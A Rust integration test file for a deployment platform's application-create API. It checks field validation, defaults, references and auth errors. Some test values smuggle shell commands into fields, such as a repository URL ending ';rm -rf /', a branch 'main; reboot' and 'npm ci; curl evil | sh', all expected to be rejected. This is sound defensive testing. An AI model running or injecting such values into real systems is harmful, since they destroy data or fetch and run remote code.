//! The six application creates: required and accepted fields per
//! endpoint, the environment rule, Coolify's aliases, strict types and
//! formats, references, Dockerfile / compose text, defaults, bad bodies.

use api_tests::{Auth, deploy::Team};
use base64::{Engine, engine::general_purpose::STANDARD};
use serde_json::{Value, json};

const COMPOSE: &str = "services:\n  web:\n    image: nginx\n";

/// A valid body for each create endpoint.
fn valid(t: &Team, endpoint: &str) -> Value {
    match endpoint {
        "public" => t.public(json!({})),
        "private-deploy-key" => t.public(json!({"private_key_uuid": t.key, "git_repository": "git@github.com:acme/app.git"})),
        "dockerfile" => t.body(json!({"dockerfile": "FROM nginx\nEXPOSE 8080\n", "autogenerate_domain": false})),
        "dockerimage" => t.body(json!({"docker_registry_image_name": "nginx", "ports_exposes": "80", "autogenerate_domain": false})),
        "dockercompose" => t.body(json!({"docker_compose_raw": COMPOSE})),
        other => panic!("no body for {other}"),
    }
}

fn without(mut body: Value, field: &str) -> Value {
    body.as_object_mut().unwrap().remove(field);
    body
}

fn with(mut body: Value, field: &str, value: Value) -> Value {
    body.as_object_mut().unwrap().insert(field.into(), value);
    body
}

async fn count(t: &Team) -> usize {
    t.get("/applications").await.body.as_array().unwrap().len()
}

#[tokio::test]
async fn each_endpoint_creates_with_its_required_fields() {
    let t = Team::new().await;
    for endpoint in [
        "public",
        "private-deploy-key",
        "dockerfile",
        "dockerimage",
        "dockercompose",
    ] {
        let r = t
            .post(&format!("/applications/{endpoint}"), valid(&t, endpoint))
            .await;
        assert_eq!(r.status, 201, "{endpoint}: {:?}", r.body);
        let uuid = r.body["uuid"].as_str().unwrap();
        assert_eq!(
            r.body.as_object().unwrap().len(),
            2,
            "{endpoint}: only uuid and domains: {:?}",
            r.body
        );
        let app = t.get(&format!("/applications/{uuid}")).await;
        assert_eq!(app.status, 200, "{endpoint}: GET returns what was created");
        assert_eq!(app.body["environment_name"], "production");
        assert_eq!(app.body["project_uuid"], json!(t.project));
        assert_eq!(app.body["server_uuid"], json!(t.server));
        assert_eq!(app.body["destination_uuid"], json!(t.destination));
    }
}

#[tokio::test]
async fn every_required_field_missing_is_named() {
    let t = Team::new().await;
    let before = count(&t).await;
    let table: &[(&str, &[&str])] = &[
        (
            "public",
            &[
                "project_uuid",
                "server_uuid",
                "git_repository",
                "git_branch",
                "build_pack",
                "ports_exposes",
            ],
        ),
        (
            "private-deploy-key",
            &[
                "project_uuid",
                "server_uuid",
                "git_repository",
                "git_branch",
                "build_pack",
                "ports_exposes",
                "private_key_uuid",
            ],
        ),
        ("dockerfile", &["project_uuid", "server_uuid", "dockerfile"]),
        (
            "dockerimage",
            &[
                "project_uuid",
                "server_uuid",
                "docker_registry_image_name",
                "ports_exposes",
            ],
        ),
        (
            "dockercompose",
            &["project_uuid", "server_uuid", "docker_compose_raw"],
        ),
    ];
    for (endpoint, required) in table {
        for field in *required {
            for body in [
                without(valid(&t, endpoint), field),
                with(valid(&t, endpoint), field, Value::Null),
            ] {
                let r = t.post(&format!("/applications/{endpoint}"), body).await;
                assert_eq!(r.status, 400, "{endpoint} without {field}: {:?}", r.body);
                assert_eq!(r.body["message"], "Validation failed.");
                assert_eq!(
                    r.body["errors"][field],
                    json!(["This field is required."]),
                    "{endpoint} without {field}"
                );
            }
        }
    }
    // The seed requires ports_exposes for every git create, compose builds too.
    let body = without(
        t.public(json!({"build_pack": "dockercompose"})),
        "ports_exposes",
    );
    assert_eq!(t.post("/applications/public", body).await.status, 400);
    let body = t.public(json!({"build_pack": "dockercompose"}));
    assert_eq!(t.post("/applications/public", body).await.status, 201);
    assert_eq!(
        count(&t).await,
        before + 1,
        "only the valid one was created"
    );
}

#[tokio::test]
async fn fields_outside_the_accepted_set_are_refused() {
    let t = Team::new().await;
    let before = count(&t).await;
    let table: &[(&str, &[&str])] = &[
        (
            "public",
            &[
                "provider_app_uuid",
                "private_key_uuid",
                "is_spa",
                "fqdn",
                "colour",
            ],
        ),
        (
            "private-deploy-key",
            &["provider_app_uuid", "dockerfile_location"],
        ),
        (
            "dockerfile",
            &[
                "git_repository",
                "docker_compose_raw",
                "watch_paths",
                "is_static",
                "use_config_json",
            ],
        ),
        (
            "dockerimage",
            &["dockerfile", "build_pack", "base_directory", "git_branch"],
        ),
        (
            "dockercompose",
            &[
                "domains",
                "build_pack",
                "ports_exposes",
                "autogenerate_domain",
                "health_check_path",
            ],
        ),
    ];
    for (endpoint, refused) in table {
        for field in *refused {
            let r = t
                .post(
                    &format!("/applications/{endpoint}"),
                    with(valid(&t, endpoint), field, json!("x")),
                )
                .await;
            assert_eq!(r.status, 400, "{endpoint} with {field}: {:?}", r.body);
            assert_eq!(
                r.body["errors"][field],
                json!(["This field is not allowed."]),
                "{endpoint} with {field}"
            );
        }
    }
    // Every problem at once, each under its own name.
    let body = with(
        with(
            without(t.public(json!({})), "git_branch"),
            "colour",
            json!(1),
        ),
        "name",
        json!(5),
    );
    let r = t.post("/applications/public", body).await;
    let errors = r.body["errors"].as_object().unwrap();
    assert_eq!(errors.len(), 3, "{errors:?}");
    assert_eq!(count(&t).await, before);
}

#[tokio::test]
async fn either_environment_field_is_enough() {
    let t = Team::new().await;
    let by_uuid = with(
        without(t.public(json!({})), "environment_name"),
        "environment_uuid",
        json!(t.environment),
    );
    let r = t.post("/applications/public", by_uuid).await;
    assert_eq!(r.status, 201, "{:?}", r.body);
    let app = t
        .get(&format!(
            "/applications/{}",
            r.body["uuid"].as_str().unwrap()
        ))
        .await;
    assert_eq!(app.body["environment_uuid"], json!(t.environment));
    let neither = without(t.public(json!({})), "environment_name");
    let r = t.post("/applications/public", neither).await;
    assert_eq!(r.status, 400);
    let m = json!(["You need to provide at least one of environment_name or environment_uuid."]);
    assert_eq!(r.body["errors"]["environment_name"], m);
    assert_eq!(r.body["errors"]["environment_uuid"], m);
}

#[tokio::test]
async fn coolify_names_are_accepted() {
    let t = Team::new().await;
    let app = t
        .created(
            "/provider-apps",
            json!({
                "name": "gh", "api_url": "https://api.github.com", "html_url": "https://github.com",
                "app_id": 1, "installation_id": 2, "client_id": "c", "client_secret": "s",
                "private_key_uuid": t.key,
            }),
        )
        .await;
    let body = t.public(json!({"github_app_uuid": app, "git_repository": "acme/private", "manual_webhook_secret_github": "hook-a"}));
    let r = t.post("/applications/private-github-app", body).await;
    assert_eq!(r.status, 201, "{:?}", r.body);
    let got = t
        .get(&format!(
            "/applications/{}",
            r.body["uuid"].as_str().unwrap()
        ))
        .await
        .body;
    assert_eq!(got["provider_app_uuid"], json!(app));
    assert_eq!(got["manual_webhook_secret_provider_a"], "hook-a");
    assert_eq!(got["source"], "provider-app");
    let body = t.public(
        json!({"provider_app_uuid": app, "git_repository": "https://github.com/acme/private"}),
    );
    assert_eq!(
        t.post("/applications/private-provider-app", body)
            .await
            .status,
        201
    );
}

#[tokio::test]
async fn types_and_formats() {
    let t = Team::new().await;
    let before = count(&t).await;
    let long = "n".repeat(256);
    let table: Vec<(&str, Value, &str)> = vec![
        (
            "name",
            json!(long),
            "The name field must not be greater than 255 characters.",
        ),
        ("name", json!(7), "The name field must be a string."),
        (
            "build_pack",
            json!("rails"),
            "The selected build pack is invalid.",
        ),
        (
            "static_image",
            json!("apache:alpine"),
            "The selected static image is invalid.",
        ),
        (
            "redirect",
            json!("sometimes"),
            "The selected redirect is invalid.",
        ),
        (
            "ports_exposes",
            json!(3000),
            "The ports exposes field must be a string.",
        ),
        (
            "ports_exposes",
            json!("3000,abc"),
            "The ports exposes field format is invalid.",
        ),
        (
            "ports_exposes",
            json!("70000"),
            "The ports exposes field format is invalid.",
        ),
        (
            "ports_mappings",
            json!("8080"),
            "The ports mappings field format is invalid.",
        ),
        (
            "ports_mappings",
            json!("8080:80,8080:81"),
            "The first number before : should be unique between mappings.",
        ),
        (
            "is_static",
            json!("true"),
            "The is static field must be true or false.",
        ),
        (
            "is_static",
            json!(1),
            "The is static field must be true or false.",
        ),
        (
            "instant_deploy",
            json!("false"),
            "The instant deploy field must be true or false.",
        ),
        (
            "health_check_interval",
            json!("5"),
            "The health check interval field must be an integer.",
        ),
        (
            "health_check_interval",
            json!(1.5),
            "The health check interval field must be an integer.",
        ),
        (
            "health_check_interval",
            json!(0),
            "The health check interval field must be at least 1.",
        ),
        (
            "health_check_return_code",
            json!(700),
            "The health check return code field must not be greater than 599.",
        ),
        (
            "health_check_port",
            json!(8080),
            "The health check port field must be a string.",
        ),
        (
            "health_check_port",
            json!("99999"),
            "The health check port field must be a port number between 1 and 65535.",
        ),
        (
            "health_check_method",
            json!("DELETE"),
            "The selected health check method is invalid.",
        ),
        (
            "health_check_path",
            json!("/a b"),
            "The health check path field format is invalid.",
        ),
        (
            "limits_memory",
            json!("lots"),
            "The limits memory field format is invalid.",
        ),
        (
            "limits_memory_swappiness",
            json!(101),
            "The limits memory swappiness field must not be greater than 100.",
        ),
        (
            "limits_cpus",
            json!(2),
            "The limits cpus field must be a string.",
        ),
        (
            "git_repository",
            json!("https://github.com/a/b;rm -rf /"),
            "The git repository contains invalid characters.",
        ),
        (
            "git_repository",
            json!("https://localhost/a/b"),
            "The git repository cannot point to internal hosts.",
        ),
        (
            "git_repository",
            json!("https://10.1.2.3/a/b"),
            "The git repository cannot use IP addresses.",
        ),
        (
            "git_repository",
            json!("ssh://github.com/a/b"),
            "The git repository must start with https://, http://, git://, or git@.",
        ),
        (
            "git_branch",
            json!("main; reboot"),
            "The git branch contains invalid characters.",
        ),
        (
            "git_branch",
            json!("a..b"),
            "The git branch contains invalid characters.",
        ),
        (
            "install_command",
            json!("npm ci; curl evil | sh"),
            "The install command contains characters that are not allowed in a command.",
        ),
        (
            "base_directory",
            json!("app"),
            "The base directory field format is invalid.",
        ),
        (
            "docker_compose_domains",
            json!({"web": "https://a.io"}),
            "The docker compose domains field must be an array.",
        ),
        (
            "use_build_server",
            json!("yes"),
            "The use build server field must be true or false.",
        ),
    ];
    for (field, value, message) in &table {
        let r = t
            .post(
                "/applications/public",
                with(t.public(json!({})), field, value.clone()),
            )
            .await;
        assert_eq!(r.status, 400, "{field}={value}: {:?}", r.body);
        let got = r.body["errors"][field][0].as_str().unwrap_or_default();
        assert!(
            got.starts_with(message),
            "{field}={value}: {got:?} should start with {message:?}"
        );
    }
    assert_eq!(count(&t).await, before, "no failed create wrote anything");
    // Nullable fields take null; valid values of every kind pass.
    let ok = t.public(json!({
        "use_build_server": null, "redirect": null, "health_check_port": "8080",
        "ports_mappings": "8080:80,8443:443", "limits_memory": "512m", "limits_cpus": "1.5",
        "health_check_interval": 30, "install_command": "npm ci && npm run build",
        "git_commit_sha": "a1b2c3", "base_directory": "/app", "name": "n".repeat(255),
    }));
    let r = t.post("/applications/public", ok).await;
    assert_eq!(r.status, 201, "{:?}", r.body);
}

#[tokio::test]
async fn unknown_references_are_named() {
    let t = Team::new().await;
    let other = Team::new().await;
    let before = count(&t).await;
    let missing = "00000000-0000-4000-8000-000000000000";
    let table: Vec<(&str, Value, &str, &str)> = vec![
        (
            "project_uuid",
            json!(missing),
            "project_uuid",
            "Project not found.",
        ),
        (
            "project_uuid",
            json!("not-a-uuid"),
            "project_uuid",
            "Project not found.",
        ),
        (
            "project_uuid",
            json!(other.project),
            "project_uuid",
            "Project not found.",
        ),
        (
            "server_uuid",
            json!(missing),
            "server_uuid",
            "Server not found.",
        ),
        (
            "server_uuid",
            json!(other.server),
            "server_uuid",
            "Server not found.",
        ),
        (
            "environment_name",
            json!("staging"),
            "environment_name",
            "Environment not found.",
        ),
        (
            "destination_uuid",
            json!(other.destination),
            "destination_uuid",
            "Provided destination_uuid does not belong to the specified server.",
        ),
    ];
    for (field, value, named, message) in table {
        let r = t
            .post(
                "/applications/public",
                with(t.public(json!({})), field, value.clone()),
            )
            .await;
        assert_eq!(r.status, 400, "{field}={value}: {:?}", r.body);
        assert_eq!(r.body["errors"][named], json!([message]), "{field}={value}");
    }
    let body = with(
        valid(&t, "private-deploy-key"),
        "private_key_uuid",
        json!(other.key),
    );
    let r = t.post("/applications/private-deploy-key", body).await;
    assert_eq!(
        r.body["errors"]["private_key_uuid"],
        json!(["Private Key not found."])
    );
    let body = t.public(json!({"provider_app_uuid": missing, "git_repository": "acme/x"}));
    let r = t.post("/applications/private-provider-app", body).await;
    assert_eq!(
        r.body["errors"]["provider_app_uuid"],
        json!(["Provider app not found."])
    );
    assert_eq!(count(&t).await, before);
}

#[tokio::test]
async fn dockerfile_and_compose_text() {
    let t = Team::new().await;
    let text = "FROM node:22\nEXPOSE 3000\nCMD [\"node\", \"app.js\"]\n";
    for sent in [text.to_string(), STANDARD.encode(text)] {
        let r = t
            .post(
                "/applications/dockerfile",
                t.body(json!({"dockerfile": sent, "autogenerate_domain": false})),
            )
            .await;
        assert_eq!(r.status, 201, "{:?}", r.body);
        let uuid = r.body["uuid"].as_str().unwrap();
        let app = t.get(&format!("/applications/{uuid}")).await.body;
        assert_eq!(app["dockerfile"], text, "stored decoded");
        assert_eq!(app["ports_exposes"], "3000", "first EXPOSE");
        assert_eq!(app["build_pack"], "dockerfile");
        assert_eq!(app["name"], json!(format!("dockerfile-{uuid}")));
    }
    let r = t
        .post(
            "/applications/dockerfile",
            t.body(json!({"dockerfile": "FROM nginx"})),
        )
        .await;
    let app = t
        .get(&format!(
            "/applications/{}",
            r.body["uuid"].as_str().unwrap()
        ))
        .await
        .body;
    assert_eq!(app["ports_exposes"], "80", "no EXPOSE: 80");
    let r = t
        .post(
            "/applications/dockerfile",
            t.body(json!({"dockerfile": "   "})),
        )
        .await;
    assert_eq!(r.status, 400);
    assert!(r.body["errors"]["dockerfile"].is_array());
    let r = t
        .post(
            "/applications/dockerfile",
            t.body(json!({"dockerfile": "FROM x", "build_pack": "nixpacks"})),
        )
        .await;
    assert_eq!(r.status, 400);
    assert!(r.body["errors"]["build_pack"].is_array());

    for sent in [COMPOSE.to_string(), STANDARD.encode(COMPOSE)] {
        let r = t
            .post(
                "/applications/dockercompose",
                t.body(json!({"docker_compose_raw": sent})),
            )
            .await;
        assert_eq!(r.status, 201, "{:?}", r.body);
        assert_eq!(r.body["domains"], Value::Null);
        let uuid = r.body["uuid"].as_str().unwrap();
        let app = t.get(&format!("/applications/{uuid}")).await.body;
        assert_eq!(app["docker_compose_raw"], COMPOSE);
        assert_eq!(app["build_pack"], "dockercompose");
        assert_eq!(app["name"], json!(format!("compose-{uuid}")));
    }
    for bad in [
        "services: [a\n",
        "version: '3'\n",
        "- a\n- b\n",
        "services: {}\n",
    ] {
        let r = t
            .post(
                "/applications/dockercompose",
                t.body(json!({"docker_compose_raw": bad})),
            )
            .await;
        assert_eq!(r.status, 400, "{bad:?}: {:?}", r.body);
        assert!(
            r.body["errors"]["docker_compose_raw"][0].is_string(),
            "{bad:?}"
        );
    }
    // A git compose build takes docker_compose_domains, not domains.
    let r = t
        .post(
            "/applications/public",
            t.public(json!({"build_pack": "dockercompose", "domains": "https://a.io"})),
        )
        .await;
    assert_eq!(r.status, 400);
    assert!(
        r.body["errors"]["domains"][0]
            .as_str()
            .unwrap()
            .starts_with("The domains field cannot be used for dockercompose applications.")
    );
}

#[tokio::test]
async fn defaults() {
    let t = Team::new().await;
    let uuid = t.app(json!({"git_branch": "develop"})).await;
    let app = t.get(&format!("/applications/{uuid}")).await.body;
    assert_eq!(
        app["name"],
        json!(format!("coolify-examples:develop-{uuid}"))
    );
    assert_eq!(app["git_commit_sha"], "HEAD");
    assert_eq!(app["status"], "exited:unhealthy");
    assert_eq!(app["health_check_path"], "/");
    assert_eq!(app["limits_cpu_shares"], 1024);
    assert_eq!(app["static_image"], "nginx:alpine");
    assert_eq!(app["is_static"], false);
    assert_eq!(
        app["manual_webhook_secret_provider_a"]
            .as_str()
            .unwrap()
            .len(),
        40,
        "generated webhook secret"
    );
    for (name, tag, want_name, want_tag) in [
        ("nginx", None, "nginx", "latest"),
        ("ghcr.io/acme/web:1.2", None, "ghcr.io/acme/web", "1.2"),
        ("ghcr.io/acme/web", Some("2.0"), "ghcr.io/acme/web", "2.0"),
    ] {
        let mut body = t.body(json!({"docker_registry_image_name": name, "ports_exposes": "80", "autogenerate_domain": false}));
        if let Some(tag) = tag {
            body = with(body, "docker_registry_image_tag", json!(tag));
        }
        let r = t.post("/applications/dockerimage", body).await;
        assert_eq!(r.status, 201, "{:?}", r.body);
        let uuid = r.body["uuid"].as_str().unwrap();
        let app = t.get(&format!("/applications/{uuid}")).await.body;
        assert_eq!(
            (
                app["docker_registry_image_name"].as_str(),
                app["docker_registry_image_tag"].as_str()
            ),
            (Some(want_name), Some(want_tag))
        );
        assert_eq!(app["name"], json!(format!("docker-image-{uuid}")));
        assert_eq!(app["build_pack"], "dockerimage");
    }
}

#[tokio::test]
async fn bad_bodies_and_credentials() {
    let t = Team::new().await;
    let before = count(&t).await;
    let path = "/api/v1/applications/public";
    let token = Auth::Bearer(&t.token);
    for (ct, body) in [
        (Some("application/json"), b"{\"name\": ".to_vec()),
        (Some("application/json"), b"[1, 2]".to_vec()),
        (Some("application/json"), b"".to_vec()),
        (
            Some("text/plain"),
            serde_json::to_vec(&t.public(json!({}))).unwrap(),
        ),
    ] {
        let r = t.api.raw("POST", path, token, ct, body.clone()).await;
        assert_eq!(
            r.status,
            400,
            "{ct:?} {:?}: {:?}",
            String::from_utf8_lossy(&body),
            r.body
        );
        assert!(!r.message().is_empty());
    }
    let huge = serde_json::to_vec(&t.public(json!({"description": "x".repeat(2 << 20)}))).unwrap();
    assert_eq!(
        t.api
            .raw("POST", path, token, Some("application/json"), huge)
            .await
            .status,
        413
    );
    for auth in [Auth::None, Auth::Bearer("nope"), Auth::Basic("x", "y")] {
        let r = t
            .api
            .call("POST", path, auth, Some(t.public(json!({}))))
            .await;
        assert_eq!(
            (r.status, r.body.clone()),
            (401, json!({"message": "Unauthenticated."})),
            "{auth:?}"
        );
    }
    let read_only = t.token_with(&["read"]).await;
    let r = t
        .call_as(
            &read_only,
            "POST",
            "/applications/public",
            Some(t.public(json!({}))),
        )
        .await;
    assert_eq!(
        (r.status, r.body),
        (
            403,
            json!({"message": "Missing required permissions: write"})
        )
    );
    let gitea_only = t.token_with(&["all"]).await;
    assert_eq!(
        t.call_as(&gitea_only, "GET", "/applications", None)
            .await
            .status,
        403
    );
    assert_eq!(count(&t).await, before);
}

#[tokio::test]
async fn blank_strings_mean_not_given() {
    let t = Team::new().await;
    let r = t
        .post(
            "/applications/public",
            t.public(json!({"name": "  ", "git_commit_sha": "", "destination_uuid": "", "description": "", "instant_deploy": true})),
        )
        .await;
    assert_eq!(r.status, 201, "{:?}", r.body);
    let uuid = r.body["uuid"].as_str().unwrap();
    let app = t.get(&format!("/applications/{uuid}")).await.body;
    assert!(
        app["name"]
            .as_str()
            .unwrap()
            .starts_with("coolify-examples:main-"),
        "{}",
        app["name"]
    );
    assert_eq!(app["git_commit_sha"], "HEAD");
    assert_eq!(app["description"], Value::Null);
    let d = t
        .get(&format!(
            "/deployments/{}",
            r.body["deployment_uuid"].as_str().unwrap()
        ))
        .await;
    assert_eq!((d.status, d.body["commit"].as_str()), (200, Some("HEAD")));
    // PATCH with a blank name keeps the name; the list still reads.
    let r = t
        .patch(&format!("/applications/{uuid}"), json!({"name": ""}))
        .await;
    assert_eq!(r.status, 200);
    assert_eq!(r.body["name"], app["name"]);
    assert_eq!(t.get("/applications").await.status, 200);
    // Blank required fields are missing ones.
    let r = t
        .post("/applications/public", t.public(json!({"git_branch": " "})))
        .await;
    assert_eq!(
        r.body["errors"]["git_branch"],
        json!(["This field is required."])
    );
}

#[tokio::test]
async fn odd_texts_and_hosts() {
    let t = Team::new().await;
    // Multi-byte text before EXPOSE: no trouble finding the port.
    let body = t.body(json!({"dockerfile": "FROM nginx\n# ééé été\nEXPOSE\t8080\n", "autogenerate_domain": false}));
    let r = t.post("/applications/dockerfile", body).await;
    assert_eq!(r.status, 201, "{:?}", r.body);
    let app = t
        .get(&format!(
            "/applications/{}",
            r.body["uuid"].as_str().unwrap()
        ))
        .await
        .body;
    assert_eq!(app["ports_exposes"], "8080");
    // Texts are bounded in bytes.
    let huge = "😀".repeat(40_000);
    let r = t
        .post(
            "/applications/dockerfile",
            t.body(json!({"dockerfile": format!("FROM x\n#{huge}")})),
        )
        .await;
    assert_eq!(r.status, 400, "{:?}", r.body["message"]);
    assert!(
        r.body["errors"]["dockerfile"][0]
            .as_str()
            .unwrap()
            .contains("bytes")
    );
    // Texts whose stored form (control characters escaped) would not fit a record.
    let r = t
        .post(
            "/applications/dockerfile",
            t.body(json!({"dockerfile": format!("FROM x\n{}", "\u{1}".repeat(70_000))})),
        )
        .await;
    assert_eq!(r.status, 400, "{:?}", r.body["message"]);
    assert!(r.message().contains("fit in one record"), "{:?}", r.body);
    // At most 20 compose service entries.
    let many: Vec<Value> = (0..21).map(|i| json!({"name": format!("s{i}")})).collect();
    let r = t
        .post(
            "/applications/public",
            t.public(json!({"build_pack": "dockercompose", "docker_compose_domains": many})),
        )
        .await;
    assert_eq!(r.status, 400);
    assert!(r.body["errors"]["docker_compose_domains"].is_array());
    // A server's wildcard domain must make one valid URL.
    let r = t
        .post("/servers", json!({"name": "w", "ip": "203.0.113.8", "private_key_uuid": t.key, "wildcard_domain": "https://apps.example.com/a,b"}))
        .await;
    assert_eq!(r.status, 400, "{:?}", r.body);
    assert!(r.body["errors"]["wildcard_domain"].is_array());
    // Domains whose encoded form would be too long for a key.
    let r = t
        .post(
            "/applications/public",
            t.public(json!({"domains": format!("https://a.io/{}", "{".repeat(600))})),
        )
        .await;
    assert_eq!(r.status, 400, "{:?}", r.body["message"]);
    // Internal hosts in every spelling.
    for repo in [
        "https://localhost./a/b",
        "https://x.localhost/a/b",
        "git@localhost:a/b.git",
        "git@10.0.0.1:a/b.git",
    ] {
        let r = t
            .post(
                "/applications/public",
                t.public(json!({"git_repository": repo})),
            )
            .await;
        assert_eq!(r.status, 400, "{repo}");
        assert!(r.body["errors"]["git_repository"].is_array(), "{repo}");
    }
    // Compose service domains belong to compose builds only.
    let r = t
        .post(
            "/applications/public",
            t.public(
                json!({"docker_compose_domains": [{"name": "web", "domain": "https://w.io"}]}),
            ),
        )
        .await;
    assert_eq!(r.status, 400);
    assert!(r.body["errors"]["docker_compose_domains"].is_array());
    let r = t
        .post(
            "/applications/public",
            t.public(json!({"build_pack": "dockercompose", "docker_compose_domains": [{"name": "web", "domain": "https://w.io"}]})),
        )
        .await;
    assert_eq!(r.status, 201, "{:?}", r.body);
    let app = t
        .get(&format!(
            "/applications/{}",
            r.body["uuid"].as_str().unwrap()
        ))
        .await
        .body;
    assert_eq!(
        app["docker_compose_domains"],
        json!("{\"web\":{\"domain\":\"https://w.io\"}}")
    );
    let r = t.post("/applications/dockerimage", t.body(json!({"docker_registry_image_name": "nginx", "ports_exposes": "80", "domains": "https://w.io"}))).await;
    assert_eq!(r.status, 409, "compose service domains are claimed");
}
